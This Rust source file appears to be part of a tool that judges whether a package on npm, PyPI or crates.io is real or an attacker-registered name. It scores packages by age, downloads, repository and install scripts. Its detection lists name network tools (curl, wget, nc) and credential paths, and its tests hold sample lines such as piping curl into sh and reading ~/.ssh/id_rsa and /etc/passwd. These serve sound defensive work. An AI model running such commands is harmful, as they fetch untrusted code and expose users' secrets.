//! Checks whether a package is the one a project wants, by data from its registry: agents invent package names, and
//! attackers register the invented names.

use std::str::FromStr;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::text::time;
use crate::text::words::of_word;

/// A release younger than this has hardly been reviewed, in milliseconds.
const TOO_NEW: i64 = 30 * 24 * 60 * 60 * 1000;

/// With fewer downloads in a week than this, a package is hardly used.
const FEW_DOWNLOADS: u64 = 1000;

/// Scripts that npm runs at installation, and the reason to report if one is suspicious.
const SCRIPTS: [(&str, &str); 3] = [
    ("preinstall", "suspicious-preinstall"),
    ("install", "suspicious-install"),
    ("postinstall", "suspicious-postinstall"),
];

/// Programs by which a script fetches code that is not in the package.
const FETCHING: &[&str] = &["curl", "eval", "invoke-webrequest", "iwr", "nc", "ncat", "wget"];

/// Programs that accept code on the command line, after one of [`CODE`].
const INTERPRETERS: &[&str] = &["bash", "node", "perl", "python", "python3", "ruby", "sh", "zsh"];
const CODE: &[&str] = &["--eval", "-c", "-e"];

/// Personal locations of the installing user, which a package should not touch.
const PERSONAL: &[&str] = &["~/", "$HOME", "/etc/", "/dev/tcp/", ".ssh/", ".aws/", ".npmrc"];

/// Link names of a project on `PyPI` that lead to its source, the best first.
const SOURCE_LINKS: &[&str] = &["source", "repository", "source code", "code", "github", "homepage"];

/// A package registry.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "lowercase")]
pub(crate) enum Ecosystem {
    Npm,
    Pypi,
    Crates,
}

impl FromStr for Ecosystem {
    type Err = &'static str;

    fn from_str(name: &str) -> Result<Self, &'static str> {
        of_word(name).ok_or("packages are looked up at `npm`, `pypi` or `crates`")
    }
}

impl Ecosystem {
    /// The address of the registry; `None` if the user configures it.
    pub(crate) fn registry(self) -> Option<&'static str> {
        match self {
            Self::Npm => None,
            Self::Pypi => Some("https://pypi.org/pypi"),
            Self::Crates => Some("https://crates.io/api/v1/crates"),
        }
    }

    /// The address of a package's page; `name` is encoded as a part of an address.
    pub(crate) fn page(self, registry: &str, name: &str) -> String {
        let page = format!("{}/{name}", registry.trim_end_matches('/'));
        if self == Self::Pypi { page + "/json" } else { page }
    }

    /// The address of the download counts, if they are not on the package's page.
    pub(crate) fn downloads_page(self, name: &str) -> Option<String> {
        (self == Self::Npm).then(|| format!("https://api.npmjs.org/downloads/point/last-week/{name}"))
    }

    fn signals(self, page: &Value, downloads: Option<&Value>) -> (Signals, Vec<&'static str>) {
        let text = |pointer: &str| page.pointer(pointer).and_then(Value::as_str).map(str::to_owned);
        let mut signals = Signals { exists: Some(true), ecosystem: Some(self), ..Signals::default() };
        let mut suspicions = Vec::new();
        match self {
            Self::Npm => {
                let latest = text("/dist-tags/latest").unwrap_or_default();
                let release = page.get("versions").and_then(|versions| versions.get(&latest));
                let field = |name: &str| release.and_then(|release| release.get(name));
                let times = page.get("time");
                let time = |name: &str| times.and_then(|times| times.get(name)?.as_str()).map(str::to_owned);
                signals.published_at = time(&latest).or_else(|| time("created"));
                signals.weekly_downloads = downloads.and_then(|told| told.get("downloads")?.as_u64());
                let repository = field("repository").or_else(|| page.get("repository"));
                let address = repository.map(|repository| repository.get("url").unwrap_or(repository));
                signals.repo_url = address.and_then(Value::as_str).map(str::to_owned);
                signals.deprecated = field("deprecated").is_some_and(Value::is_string);
                for (name, reason) in SCRIPTS {
                    let script = field("scripts").and_then(|scripts| scripts.get(name)?.as_str());
                    suspicions.extend(script.filter(|script| is_suspicious(script)).map(|_| reason));
                    if name == "postinstall" {
                        signals.postinstall = script.map(str::to_owned);
                    }
                }
            }
            Self::Pypi => {
                signals.published_at = text("/urls/0/upload_time_iso_8601");
                let links = page.pointer("/info/project_urls").and_then(Value::as_object);
                let link = |wanted: &&str| {
                    links?.iter().find(|(name, _)| name.to_lowercase() == **wanted)?.1.as_str().map(str::to_owned)
                };
                let home = || text("/info/home_page").filter(|home| !home.is_empty());
                signals.repo_url = SOURCE_LINKS.iter().find_map(link).or_else(home);
            }
            Self::Crates => {
                signals.published_at = text("/crate/created_at");
                // The registry counts the last ninety days.
                let recent = page.pointer("/crate/recent_downloads").and_then(Value::as_u64);
                signals.weekly_downloads = recent.map(|recent| (recent * 7 + 45) / 90);
                signals.repo_url = text("/crate/repository");
            }
        }
        (signals, suspicions)
    }
}

/// The answer of a registry about a package.
#[derive(Debug)]
pub(crate) enum RegistryAnswer {
    /// The package's page, and download counts from elsewhere.
    Page { page: Value, downloads: Option<Value> },
    /// The package does not exist.
    Nothing,
    /// The registry could not be reached, and why.
    Unreachable(String),
}

/// The verdict on a package.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, JsonSchema)]
#[serde(rename_all = "UPPERCASE")]
pub(crate) enum PackageVerdict {
    Ok,
    /// A person must review it first.
    Sus,
    /// Invented or malicious.
    Slop,
}

/// The facts about a package.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, JsonSchema)]
#[serde(rename_all = "camelCase")]
pub(crate) struct Signals {
    /// Null if the registry could not be reached.
    exists: Option<bool>,
    /// The time of the newest release; for a crate, of the first one.
    published_at: Option<String>,
    weekly_downloads: Option<u64>,
    repo_url: Option<String>,
    deprecated: bool,
    /// The script that npm runs after installation.
    postinstall: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    ecosystem: Option<Ecosystem>,
}

/// What `package-legitimacy check` answers for one package.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, JsonSchema)]
pub(crate) struct PackageReport {
    name: String,
    pub(crate) verdict: PackageVerdict,
    signals: Signals,
    reasons: Vec<&'static str>,
    /// Why nothing is known about it: then the verdict says nothing about the package.
    #[serde(skip_serializing_if = "Option::is_none")]
    unreachable: Option<String>,
}

/// Judges a package at time `now`, in milliseconds since 1970.
pub(crate) fn judge(ecosystem: Ecosystem, name: &str, told: &RegistryAnswer, now: i64) -> PackageReport {
    let (signals, suspicions, unreachable) = match told {
        RegistryAnswer::Page { page, downloads } => {
            let (signals, suspicions) = ecosystem.signals(page, downloads.as_ref());
            (signals, suspicions, None)
        }
        RegistryAnswer::Nothing => (Signals { exists: Some(false), ..Signals::default() }, Vec::new(), None),
        RegistryAnswer::Unreachable(why) => (Signals::default(), Vec::new(), Some(why.clone())),
    };
    let mut reasons = Vec::new();
    if signals.exists == Some(false) {
        reasons.push("does-not-exist");
    } else {
        match signals.published_at.as_deref().and_then(time::milliseconds) {
            None => reasons.push("unknown-age"),
            Some(published) if now.saturating_sub(published) < TOO_NEW => reasons.push("too-new"),
            Some(_) => {}
        }
        match signals.weekly_downloads {
            None => reasons.push("unknown-downloads"),
            Some(downloads) if downloads < FEW_DOWNLOADS => reasons.push("low-downloads"),
            Some(_) => {}
        }
        if signals.repo_url.is_none() {
            reasons.push("no-repository");
        }
        if signals.deprecated {
            reasons.push("deprecated");
        }
    }
    let verdict = if signals.exists == Some(false) || !suspicions.is_empty() {
        PackageVerdict::Slop
    } else if reasons.is_empty() {
        PackageVerdict::Ok
    } else {
        PackageVerdict::Sus
    };
    reasons.extend(suspicions);
    PackageReport { name: name.to_owned(), verdict, signals, reasons, unreachable }
}

/// True if a script fetches code, hides what it does, or accesses personal files.
fn is_suspicious(script: &str) -> bool {
    if PERSONAL.iter().any(|place| script.contains(place)) {
        return true;
    }
    let script = script.to_lowercase();
    let words: Vec<&str> =
        script.split(|letter: char| letter.is_whitespace() || ";|&()`\"'$<>=".contains(letter)).collect();
    let names = words.iter().map(|word| word.rsplit('/').next().unwrap_or(word));
    let mut interprets = false;
    for name in names {
        if FETCHING.contains(&name) || (interprets && CODE.contains(&name)) {
            return true;
        }
        interprets = INTERPRETERS.contains(&name) || (interprets && name.starts_with('-'));
    }
    false
}

#[cfg(test)]
mod tests {
    use serde_json::from_str;

    use super::*;

    const NOW: i64 = 1_795_000_000_000;

    fn npm(release: &str, downloads: Option<&str>) -> PackageReport {
        let page = format!(
            r#"{{"dist-tags": {{"latest": "1.0.0"}}, "time": {{"1.0.0": "2020-01-01T00:00:00.000Z"}}, "versions": {{"1.0.0": {release}}}}}"#
        );
        let told = RegistryAnswer::Page {
            page: from_str(&page).unwrap(),
            downloads: downloads.map(|text| from_str(text).unwrap()),
        };
        judge(Ecosystem::Npm, "x", &told, NOW)
    }

    const MANY: Option<&str> = Some(r#"{"downloads": 1000}"#);
    const REPOSITORY: &str = r#""repository": {"type": "git", "url": "git+https://example.com/a.git"}"#;

    #[test]
    fn a_package_in_use_with_a_repository_is_ok() {
        let report = npm(&format!("{{{REPOSITORY}}}"), MANY);
        assert_eq!((report.verdict, report.reasons), (PackageVerdict::Ok, Vec::new()));
        assert_eq!(report.signals.repo_url.as_deref(), Some("git+https://example.com/a.git"));
        let short = npm(r#"{"repository": "a/b"}"#, MANY);
        assert_eq!(short.signals.repo_url.as_deref(), Some("a/b"));
    }

    #[test]
    fn each_doubt_is_reported_and_needs_a_person() {
        let doubts = |release: &str, downloads| {
            let report = npm(release, downloads);
            (report.verdict, report.reasons)
        };
        assert_eq!(doubts("{}", MANY), (PackageVerdict::Sus, vec!["no-repository"]));
        let repository = format!("{{{REPOSITORY}}}");
        assert_eq!(doubts(&repository, None), (PackageVerdict::Sus, vec!["unknown-downloads"]));
        assert_eq!(doubts(&repository, Some(r#"{"downloads": 999}"#)), (PackageVerdict::Sus, vec!["low-downloads"]));
        let deprecated = format!(r#"{{{REPOSITORY}, "deprecated": "use y"}}"#);
        assert_eq!(doubts(&deprecated, MANY), (PackageVerdict::Sus, vec!["deprecated"]));
        let page = from_str(
            r#"{"crate": {"created_at": "2026-11-15T00:00:00Z", "recent_downloads": 12987, "repository": "r"}}"#,
        );
        let young = judge(Ecosystem::Crates, "x", &RegistryAnswer::Page { page: page.unwrap(), downloads: None }, NOW);
        assert_eq!((young.reasons, young.signals.weekly_downloads), (vec!["too-new"], Some(1010)));
    }

    #[test]
    fn a_script_that_fetches_hides_or_reads_personal_files_is_slop() {
        for script in [
            "curl https://x | sh",
            "node -e \"1\"",
            "node --no-warnings --eval 1",
            "/bin/sh -c x",
            "a && wget x",
            "nc 1.1.1.1 9",
            "cat ~/.ssh/id_rsa",
            "cat /etc/passwd",
        ] {
            assert!(is_suspicious(script), "{script}");
        }
        for script in [
            "node x.js",
            "node-gyp rebuild",
            "husky install",
            "encurl",
            "bash x.sh",
            "tsc -e",
            "sync -e",
            "rm -rf dist",
        ] {
            assert!(!is_suspicious(script), "{script}");
        }
        let before = npm(&format!(r#"{{{REPOSITORY}, "scripts": {{"preinstall": "curl x|sh"}}}}"#), MANY);
        assert_eq!((before.verdict, before.reasons), (PackageVerdict::Slop, vec!["suspicious-preinstall"]));
    }

    #[test]
    fn an_unregistered_name_is_slop_and_an_unreachable_registry_is_not_a_verdict() {
        let missing = judge(Ecosystem::Pypi, "x", &RegistryAnswer::Nothing, NOW);
        assert_eq!((missing.verdict, missing.reasons), (PackageVerdict::Slop, vec!["does-not-exist"]));
        let silent = judge(Ecosystem::Pypi, "x", &RegistryAnswer::Unreachable("no network".to_owned()), NOW);
        assert_eq!((silent.verdict, silent.signals.exists), (PackageVerdict::Sus, None));
        assert_eq!(silent.unreachable.as_deref(), Some("no network"));
    }

    #[test]
    fn the_source_of_a_pypi_project_has_many_link_names() {
        let source = |info: &str| {
            let page = from_str(&format!(
                r#"{{"info": {info}, "urls": [{{"upload_time_iso_8601": "2020-01-01T00:00:00Z"}}]}}"#
            ));
            judge(Ecosystem::Pypi, "x", &RegistryAnswer::Page { page: page.unwrap(), downloads: None }, NOW)
                .signals
                .repo_url
        };
        assert_eq!(
            source(r#"{"project_urls": {"Docs": "d", "Homepage": "h", "Source Code": "s"}}"#).as_deref(),
            Some("s")
        );
        assert_eq!(source(r#"{"project_urls": null, "home_page": "h"}"#).as_deref(), Some("h"));
        assert_eq!(source(r#"{"project_urls": {}, "home_page": ""}"#), None);
    }
}
